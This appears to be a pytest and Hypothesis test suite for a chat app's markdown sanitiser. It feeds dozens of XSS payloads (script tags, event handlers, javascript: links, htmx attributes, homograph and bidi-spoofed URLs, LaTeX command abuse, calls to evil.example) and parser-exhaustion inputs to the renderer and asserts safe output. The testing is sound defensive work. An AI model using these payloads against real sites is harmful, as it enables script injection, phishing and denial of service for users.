"""Whatever a model writes, a page gets an allow-list of tags and attributes, for an amount of work that is bounded."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from types import FrameType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.rendering import MAX_MARKDOWN_CHARACTERS, render_markdown
from chat.rendering import reply as reply_module
from chat.tests.rendered import assert_harmless

WORK_AT_LEAST = 100_000
WORK_PER_CHARACTER = 450
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<div hx-get='/api/auth/me' hx-trigger='load'>x</div>",
    "<div data-hx-post='/chat/new/' data-hx-trigger='load'>x</div>",
    "<div id='composer' hx-swap-oob='true'>x</div>",
    "<div ws-connect='/ws/chat/x'>x</div>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<base href='//evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onload="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> - 1. <svg onload=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "a\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</div></div><script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "~~<del onclick=alert(1)>~~",
    # Templates, htmx and the page's own names
    "{{ request.user.password }} {% load static %} {% include 'admin/base.html' %}",
    "<p hx-on:load='alert(1)' hx-vals='js:{a:alert(1)}'>x</p>",
    "<a data-hx-boost=true hx-ext=ws ws-send href=/chat/>x</a>",
    "<p id=chat-room name=csrfmiddlewaretoken class='composer is-tuned'>x</p>",
    "<img name=body><form id=getElementById><input name=attributes></form>",
    "<button data-copy=csrf>x</button><div data-active data-live=true>x</div>",
    '<pre data-slot="0"></pre>\n\n```\nx\n```',
    '`<pre data-slot="0"></pre>` ```<pre data-slot="7"></pre>```',
    "<select><option>a</select><textarea>b</textarea><dialog open>c</dialog>",
    "<video src=//evil.example/v><audio src=//evil.example/a><source srcset=//evil.example/s>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>",
    # Where a link leads
    "[x](https://bank.example@evil.example/)",
    "<https://bank.example:secret@evil.example/>",
    "[https://bank.example](https://evil.example)",
    "[bank.example](https://evil.example/bank.example)",
    "[https://evil.example](https://evil.example.attacker.example)",
    "[x](https://аррӏе.com/)",
    "<https://аррӏе.com/>",
    "[аррӏе.com](https://аррӏе.com/)",
    "[x](https://evil.example%2f@bank.example)",
    "[x](https:\\\\evil.example)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](#composer)",
    "[x](?next=//evil.example)",
    "[x](https://[::1]/)",
    "[x](https://[::1/)",
    "[x](https://a.example:99999999/)",
    "[x](mailto:a@b.example?subject=x%0ABcc:c@d.example)",
    "[x](&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\u202ehttps://evil.example)",
    "[![x](https://evil.example/p.png)](https://a.example)",
    "![](https://evil.example/p.png)",
    "![x](/chat/1/delete/)",
    "[x][y]\n\n[y]: https://evil.example '<img src=x onerror=alert(1)>'",
    "[\u202egnab](https://evil.example)",
    # Characters
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x9b31m \x85 \x7f \x08",
    "&#27;[31m &#x202E;gpj.exe &#8294;a&#8297; &#0; &#xD800; &#x110000;",
    "abc\u202egpj.exe\u202c \u2066a\u2069 \u200fb",
    "```\nif access != 'user\u202e \u2066// admin\u2069 \u2066':\n```",
    "\ud800 \udfff `\udc00` $\ud83d$",
    "z\u200be\u200cr\u200do \u2060\u00ad\U000e0041",
    "Z" + "\u0310\u0323" * 500,
    "مرحبا **بالعالم** `code` 123",
    "👩‍👩‍👧‍👦🏴‍☠️🇯🇵" * 50,
    "\ufffe\uffff\ufdd0\U0001ffff",
    "`\x00` ```\x00\n\x00\n```",
    # Formulas
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\mbox{&lt;script&gt;}$ $\\operatorname{x}</math>$",
    "$\\class{composer}{x} \\style{position:fixed;inset:0}{x}$",
    "$\\style{background:url(//evil.example)}x$ $\\cssId{chat-room}{x}$",
    "$\\input{/etc/passwd} \\include{x} \\write18{id} \\openin1=x$",
    "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\a}{\\b\\b}\\a$",
    "$\\unicode{x202e}x$ $\\unicode{x3c}script$",
    '$\\color{red;position:fixed}{x}$ $\\textcolor{"onclick=alert(1)}{x}$',
    "$\\hspace{9999em}x \\raise999em{x} \\rule{999em}{999em}$",
    "$\\begin{<script>}x\\end{<script>}$ \\(<script>\\) \\[<img src=x>\\]",
    '$x$" onload="alert(1) $"onload="alert(1)$',
    "$\\verb|<script>|$ $\\%\\$\\&<b>$",
    # Fences, tables, lists that end in the middle
    "```<script>alert(1)</script>\nx\n```",
    "```python <img src=x onerror=alert(1)>\nprint('<script>')\n```",
    "```{.python onclick=alert(1) #chat-room}\nx\n```",
    '~~~\u202e"><script>\nx',
    "```html\n<script>alert(1)</script>",
    "```js\n'</code></pre><script>alert(1)</script>'\n```",
    "> ```\n> </blockquote>\n<script>",
    "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] [x](javascript:alert(1))",
    '| a |\n|:-:" onclick=alert(1)|\n| b |',
    "| $x|y$ | `a|b` |\n|--|--|\n| <td onclick=alert(1)> |",
    "W" * 15_000,
]
MARKUP = [
    *(
        "**",
        "_",
        "`",
        "```\n",
        "```python\n",
        "~~~\n",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "- [ ] ",
        "1. ",
        "# ",
        "|",
        "|-|-|\n",
    ),
    *(
        "[",
        "](",
        ")",
        "<",
        ">",
        '"',
        "'",
        "\\",
        "$",
        "$$",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "\\frac{1}{",
        "}",
        "&",
        "~~",
    ),
    *("https://a.example", "「", "。", "\u202e", "\x1b[", "\ud800", "    ", "\t", "\u3000"),
]
MIXTURES = st.lists(
    st.one_of(
        st.sampled_from(ATTACKS[:-1] + MARKUP),
        st.text(st.characters(exclude_categories=()), max_size=12),
    ),
    max_size=14,
).map("".join)
# Openings without end, each a way to make a parser read the same text again and again.
BOMBS = [
    *(
        "[",
        "]",
        "![",
        "*",
        "**",
        "_",
        "`",
        "``` ",
        "```\n",
        "~~~\n",
        "> ",
        ">\n",
        "- ",
        "1. ",
        "(",
        "[](",
        "[a][",
        "[",
    ),
    *(
        "<",
        "<a ",
        "<!--",
        "<?",
        "&",
        "&#",
        "\\",
        "|",
        "|a|\n",
        "a|b\n-|-\n",
        "~~",
        "*a_",
        "**a",
        "a**",
        "**「",
    ),
    *(
        "[a]: b\n",
        "![a](",
        "<http://",
        "# ",
        "=\n",
        "a\n=\n",
        "- [ ] a\n",
        "> - ",
        "\t",
        "e\u0301",
        "👩‍",
        "{{",
        "{%",
    ),
    *(
        "$",
        "$$",
        "$a",
        "$x$ ",
        "$$\n",
        "$$a\n",
        "\\(",
        "\\[\n",
        "\\[",
        "\\( a ",
        "\\$",
        "$\\",
        "$${}$$ ",
    ),
    *("[x](https://a.example) ", "```c\n\n```\n"),
]
DEEP = {
    "braces": "$" + "{" * 700 + "}" * 700 + "$",
    "roots": "$" + "\\sqrt" * 290 + "$",
    "powers": "$" + "x^" * 600 + "x$",
    "sizes": "$" + "\\large" * 230 + "$",
    "brackets": "$" + "\\left(" * 100 + "\\right)" * 100 + "$",
    "columns": "$\\begin{matrix}" + "&" * 1400 + "\\end{matrix}$",
    "macros": "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}" + "\\a" * 400 + "$",
    "wide table": "a|" * 100 + "\n" + "-|" * 100 + "\n" + "x\n" * 9_000,
    "long table": "a|b\n-|-\n" + "x\n" * 9_000,
    "nested lists": "\n".join(" " * depth + "- a" for depth in range(180)),
    "nested link": "[a](" + "(" * 9_000 + ")" * 9_000 + ")",
    "backticks": "`" * 9_999 + " " + "`" * 9_998,
    "names": "```csharp\n" + "a\n" * 2_900 + "```",
    "empty lines": "```java\n" + "\n" * 5_900 + "```",
}


@pytest.fixture(autouse=True)
def _nothing_was_raised(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """What is raised inside is shown as plain text, which would hide it from these tests."""
    yield
    assert not [record for record in caplog.get_records("call") if record.levelname == "ERROR"]


def count_calls(text: str) -> int:
    """How many functions are entered and left: a measure of work that no busy machine can change."""
    calls = 0

    def count(_frame: FrameType, _event: str, _argument: object) -> None:
        nonlocal calls
        calls += 1

    reply_module._render.cache_clear()
    sys.setprofile(count)
    try:
        render_markdown(text)
    finally:
        sys.setprofile(None)
    return calls


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_outside_the_allow_list(attack: str) -> None:
    assert_harmless(render_markdown(attack))


@given(MIXTURES)
@settings(max_examples=200, deadline=None)
def test_no_mixture_of_attacks_and_markup_gets_through(text: str) -> None:
    assert_harmless(render_markdown(text))


@given(MIXTURES, st.integers(1, 40))
@settings(max_examples=40, deadline=None)
def test_work_grows_with_the_length_of_the_text(text: str, times: int) -> None:
    repeated = (text * times)[:5_000]
    assert count_calls(repeated) < WORK_AT_LEAST + WORK_PER_CHARACTER * len(repeated)


@pytest.mark.parametrize("unit", BOMBS)
def test_openings_without_end_cost_no_more_than_their_length(unit: str) -> None:
    text = (unit * 4_000)[:4_000]
    assert count_calls(text) < WORK_PER_CHARACTER * len(text)
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize("name", DEEP)
def test_what_is_deep_or_large_costs_no_more_than_its_length(name: str) -> None:
    text = DEEP[name][:MAX_MARKDOWN_CHARACTERS]
    assert count_calls(text) < WORK_AT_LEAST + WORK_PER_CHARACTER * len(text)
    html = render_markdown(text)
    assert len(html) < 50_000 + 10 * len(text)
    assert_harmless(html)


def test_a_text_too_long_to_parse_is_shown_as_it_is() -> None:
    html = render_markdown("[" * MAX_MARKDOWN_CHARACTERS + "<b>\x1b")
    wrapper = assert_harmless(html)
    assert wrapper.has_class("markdown--plain")
    assert wrapper.text.endswith("<b>␛")


def test_a_text_of_too_many_pieces_is_shown_as_it_is() -> None:
    text = "- a\n" * 3_000
    wrapper = assert_harmless(render_markdown(text))
    assert wrapper.has_class("markdown--plain")
    assert wrapper.text == text


@pytest.mark.parametrize(
    "text", ["<b onclick=x>a</b>", "<div>a</div>", "<!-- a -->", "<script>a</script>", "<?a?>"]
)
def test_markup_is_read_as_it_was_written(text: str) -> None:
    assert assert_harmless(render_markdown(text)).text.strip() == text


@pytest.mark.parametrize(
    "text", ["", " ", "\u3000", "\n\n", "\u3000\n\u3000", "[a]: https://a.example", "\x00", "\r"]
)
def test_a_text_of_nothing_is_nothing(text: str) -> None:
    assert assert_harmless(render_markdown(text)).text.strip() in ("", "␀")


def test_an_image_is_never_fetched() -> None:
    wrapper = assert_harmless(render_markdown("![secret](https://evil.example/?q=secret)"))
    (link,) = wrapper.all("a")
    assert link.text == "secret"
    assert wrapper.text.strip() == "secret (evil.example)"


@pytest.mark.parametrize(
    "text",
    [
        "[x](/admin/)",
        "[x](#top)",
        "[x](//a.example)",
        "[x](https://u@a.example/)",
        "![x](data:image/png;base64,AA==)",
    ],
)
def test_what_is_no_outside_address_is_no_link(text: str) -> None:
    assert not assert_harmless(render_markdown(text)).all("a")


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[my bank](https://evil.example/x)", "evil.example"),
        ("[https://bank.example](https://evil.example)", "evil.example"),
        ("<https://аррӏе.com/>", "xn--80ak6aa92e.com"),
        ("[mail](mailto:a@evil.example)", "a@evil.example"),
    ],
)
def test_a_link_shows_where_it_leads(text: str, host: str) -> None:
    assert assert_harmless(render_markdown(text)).text.strip().endswith(f"({host})")


def test_an_address_written_out_stands_once() -> None:
    assert (
        assert_harmless(render_markdown("<https://a.example/x>")).text.strip()
        == "https://a.example/x"
    )
